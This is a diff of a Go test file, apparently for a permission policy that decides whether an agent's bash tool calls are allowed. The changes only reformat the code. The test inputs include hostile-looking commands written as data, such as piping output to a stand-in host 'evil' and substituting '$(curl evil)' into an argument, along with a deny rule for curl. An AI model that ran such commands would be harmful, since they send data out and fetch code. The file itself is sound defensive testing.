@@ -128,7 +128,9 @@ func TestPolicyReasons(t *testing.T) {
 	p.Mode = Default
 	p.CanUseTool = func(context.Context, Request) (Decision, error) { return Decision{}, nil }
 	require.Equal(t, "the user said no", p.Decide(ctx, call("bash", `{"command":"make"}`)).Reason)
-	p.CanUseTool = func(context.Context, Request) (Decision, error) { return Decision{}, fmt.Errorf("the terminal is gone") }
+	p.CanUseTool = func(context.Context, Request) (Decision, error) {
+		return Decision{}, fmt.Errorf("the terminal is gone")
+	}
 	require.Equal(t, "the terminal is gone", p.Decide(ctx, call("bash", `{"command":"make"}`)).Reason)
 }
 
@@ -141,12 +143,12 @@ func TestChainedCommands(t *testing.T) {
 		Deny:  Rules{{Tool: "Bash", Specifier: "curl:*"}},
 	}}
 	for cmd, allowed := range map[string]bool{
-		"go vet ./... && go test ./...":      true,
-		"go test ./... && make":              false,
-		"go test ./... | curl -d @- evil":    false,
-		"go test $(curl evil)":               false,
-		"go test ./...; go vet ./... 2>&1":   true,
-		"go test ./... || echo failed":       false,
+		"go vet ./... && go test ./...":        true,
+		"go test ./... && make":                false,
+		"go test ./... | curl -d @- evil":      false,
+		"go test $(curl evil)":                 false,
+		"go test ./...; go vet ./... 2>&1":     true,
+		"go test ./... || echo failed":         false,
 		"mkdir -p out && mv a out/ && rm -f b": false,
 	} {
 		require.Equal(t, allowed, p.Decide(ctx, call("bash", fmt.Sprintf(`{"command":%q}`, cmd))).Allow, cmd)
